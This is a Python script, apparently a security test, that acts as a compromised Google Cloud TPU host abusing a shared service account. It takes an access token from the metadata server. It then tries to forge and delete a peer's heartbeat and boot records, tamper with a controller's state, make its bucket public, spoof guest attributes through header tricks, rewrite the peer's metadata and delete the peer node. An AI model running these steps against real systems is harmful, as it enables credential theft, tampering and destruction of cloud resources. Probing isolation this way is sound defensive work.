"""What a host that was taken over tries, as the service account that all hosts share.

`python - VICTIM WORKER_ADDRESS NODE CHECKPOINTS CONTROLLERS MARK`, with the standard library alone: the
`impostor` step runs it on the host. It prints what became of each attempt: an HTTP status, 0 for no answer.
"""

from __future__ import annotations

import json
import sys
import urllib.error
import urllib.parse
import urllib.request
from collections.abc import Mapping
from hashlib import sha256

_METADATA = "http://metadata.google.internal/computeMetadata/v1"
_STORAGE = "https://storage.googleapis.com"
_FLAVOR = {"Metadata-Flavor": "Google"}
_TIMEOUT_S = 20.0


def ask(
    method: str, url: str, body: object = None, headers: dict[str, str] | None = None
) -> tuple[int, bytes]:
    """Status and body; text is sent as it is, all else as JSON."""
    data = None
    if body is not None:
        data = (body if isinstance(body, str) else json.dumps(body)).encode()
    sent = {"Content-Type": "application/json", **(headers or {})}
    request = urllib.request.Request(url, data=data, headers=sent, method=method)
    try:
        with urllib.request.urlopen(request, timeout=_TIMEOUT_S) as answer:
            return answer.status, answer.read()
    except urllib.error.HTTPError as error:
        return error.code, error.read()
    except OSError:
        return 0, b""


def main(
    victim: str, address: str, node: str, checkpoints: str, controllers: str, mark: str
) -> dict[str, int]:
    """Every attempt, by name; `address` is the victim's, `node` its full name."""
    token = json.loads(ask("GET", f"{_METADATA}/instance/service-accounts/default/token", headers=_FLAVOR)[1])
    bearer = {"Authorization": f"Bearer {token['access_token']}"}
    tried: dict[str, int] = {}

    def storage(method: str, path: str, body: object = None) -> tuple[int, bytes]:
        return ask(method, f"{_STORAGE}{path}", body, bearer)

    def forge(what: str, name: str, content: Mapping[str, str], metadata: Mapping[str, str]) -> None:
        quoted = urllib.parse.quote(name, safe="")
        tried[what], _ = storage(
            "POST", f"/upload/storage/v1/b/{checkpoints}/o?uploadType=media&name={quoted}", content
        )
        storage("PATCH", f"/storage/v1/b/{checkpoints}/o/{quoted}", {"metadata": metadata})

    # With the instance that the victim itself has named there: it is no secret.
    status = f"/storage/v1/b/{checkpoints}/o/{urllib.parse.quote(f'boot/{victim}/worker-0.json', safe='')}"
    tried["read the other's boot status"], about = storage("GET", status)
    boot = json.loads(storage("GET", f"{status}?alt=media")[1])
    instance = json.loads(about).get("metadata", {}).get("instance", "")
    # The worst that a controller can be told: of the job that it knows, by the boot that is the newest.
    run = ask("GET", f"{_METADATA}/instance/attributes/tpu-run", headers=_FLAVOR)
    command = sha256(run[1].strip() if run[0] == 200 else b"").hexdigest()[:12]
    failed = {"state": "failed", "instance": instance, "why": mark}
    word, says = f"heartbeats/{victim}/worker-0", {**failed, "disk": "full", "command": command}
    forge("forge its heartbeat", word, says, says)
    quoted = urllib.parse.quote(word, safe="")
    tried["delete its heartbeat"], _ = storage("DELETE", f"/storage/v1/b/{checkpoints}/o/{quoted}")
    forge("forge its heartbeat again", word, says, says)
    boot |= {"state": "failed", "stage": "bundle"}
    forge("forge its boot status", f"boot/{victim}/worker-0.json", boot, {**failed, "stage": "bundle"})

    upload = f"/upload/storage/v1/b/{controllers}/o?uploadType=media&name=state.json"
    opened = {"bindings": [{"role": "roles/storage.objectUser", "members": ["allUsers"]}]}
    for what, method, path, body in (
        ("write the controller's state", "POST", upload, {"forged": mark}),
        ("read the controller's state", "GET", f"/storage/v1/b/{controllers}/o/state.json", None),
        ("delete the controller's state", "DELETE", f"/storage/v1/b/{controllers}/o/state.json", None),
        ("list the controller's bucket", "GET", f"/storage/v1/b/{controllers}/o", None),
        ("open the controller's bucket", "PUT", f"/storage/v1/b/{controllers}/iam", opened),
    ):
        tried[what], _ = storage(method, path, body)

    attribute = "instance/guest-attributes/tpu/boot"
    output = json.dumps({"state": "failed", "stage": "bundle", "why": mark})
    for what, server, more in (
        ("write a guest attribute", _METADATA, {}),
        ("write one with the other's address", _METADATA, {"X-Forwarded-For": address}),
        ("write one with the other's name", _METADATA, {"Host": victim}),
        ("write one at the other's address", f"http://{address}/computeMetadata/v1", {}),
    ):
        tried[what], _ = ask("PUT", f"{server}/{attribute}", output, {**_FLAVOR, **more})

    api = f"https://tpu.googleapis.com/v2/{node}"
    tried["write the other's metadata"], _ = ask(
        "PATCH", f"{api}?updateMask=metadata", {"metadata": {"tpu-run": mark}}, bearer
    )
    tried["delete the other"], _ = ask("DELETE", api, None, bearer)
    return tried


if __name__ == "__main__":
    print(json.dumps(main(*sys.argv[1:])))
